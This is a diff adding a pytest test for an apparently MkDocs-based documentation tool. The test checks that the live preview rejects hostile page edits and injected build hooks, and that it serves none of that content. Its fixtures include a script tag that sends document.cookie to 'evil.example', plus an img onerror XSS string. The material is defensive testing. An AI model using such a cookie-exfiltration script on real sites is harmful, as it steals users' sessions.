@@ -214,3 +214,61 @@ def test_the_error_page_escapes_everything_it_shows() -> None:
     assert "facts/claims/&lt;img src=x onerror=alert(1)&gt;&quot;&amp;.yml:3:7" in page
     assert page.index("error[quote-not-found]") < page.index("warning[w]"), "errors first"
     assert "<script" not in page, "the page has no script of its own (the server adds live reload)"
+
+
+@pytest.mark.parametrize(
+    ("how", "says"),
+    [
+        # The check refuses the files: a script in a page, in a draft (which only the preview
+        # renders), a macro call that reads the template engine's internals.
+        ("page", "page-markup"),
+        ("draft", "page-markup"),
+        ("template", "page-template"),
+        # The files pass the check and something changes them later: the build's own refusals.
+        ("tamper", "index.md: the page's text or title differs from what the check approved"),
+        ("content", "docs/index.md: the built content holds the attribute onerror= on <img>"),
+        ("document", "docs/index.md: the built page holds an inline <script> the theme did not write"),
+        ("file", "docs/evil.js: the build would publish a file the check did not approve"),
+    ],
+)
+def test_the_preview_refuses_what_the_build_refuses_and_serves_none_of_it(
+    tmp_path: Path, how: str, says: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The preview runs the build's own check, render-time refusal and guard (macros.py and
+    site_adapter.py, through MkDocs' plugin events): after a good build, each hostile edit fails
+    the next build, and the site folder the server answers from holds none of it."""
+    from conftest import FIXTURES
+    from test_build_safety import _site_project
+    from test_page_checks import PAYLOAD
+
+    root = _site_project(tmp_path)
+    site = tmp_path / "site"
+    builder = Builder(str(root / "mkdocs.yml"), str(site), "http://127.0.0.1:8000/")
+    with quiet():
+        assert builder.build() is None
+    before = _files(site)
+    assert "index.html" in before
+    docs, config = root / "docs", root / "mkdocs.yml"
+    script = '<script>fetch("https://evil.example/?" + document.cookie)</script>'
+    if how == "page":
+        (docs / "index.md").write_text((docs / "index.md").read_text(encoding="utf-8") + f"\n{script}\n", encoding="utf-8")
+    elif how == "draft":
+        (docs / "drafts").mkdir()
+        (docs / "drafts" / "notes.md").write_text(f"# Notes\n\n{script}\n", encoding="utf-8")
+    elif how == "template":
+        (docs / "index.md").write_text((docs / "index.md").read_text(encoding="utf-8") + f"\n{PAYLOAD}\n", encoding="utf-8")
+    else:
+        hook = "tamper.py" if how == "tamper" else "inject.py"
+        (root / hook).write_bytes((FIXTURES / "build-safety-hook" / hook).read_bytes())
+        monkeypatch.setenv("BRIEFING_INJECT", how)
+        config.write_text(config.read_text(encoding="utf-8") + f"hooks:\n  - {hook}\n", encoding="utf-8")
+    with quiet():
+        failure = builder.build()
+    assert failure is not None, f"{how}: the preview built it"
+    found = [f"{d.path}: {d.code}" for d in failure.diagnostics] + failure.messages
+    assert any(says in f for f in found), f"{how}: {found}"
+    after = _files(site)
+    assert after.get("index.html") == before["index.html"], f"{how}: the served home page changed"
+    assert "evil.js" not in after and not (root / "ran.txt").exists()
+    for path, data in after.items():
+        assert b"evil.example" not in data and b"alert(document.domain)" not in data and b"PWNED" not in data, f"{how}: {path}"
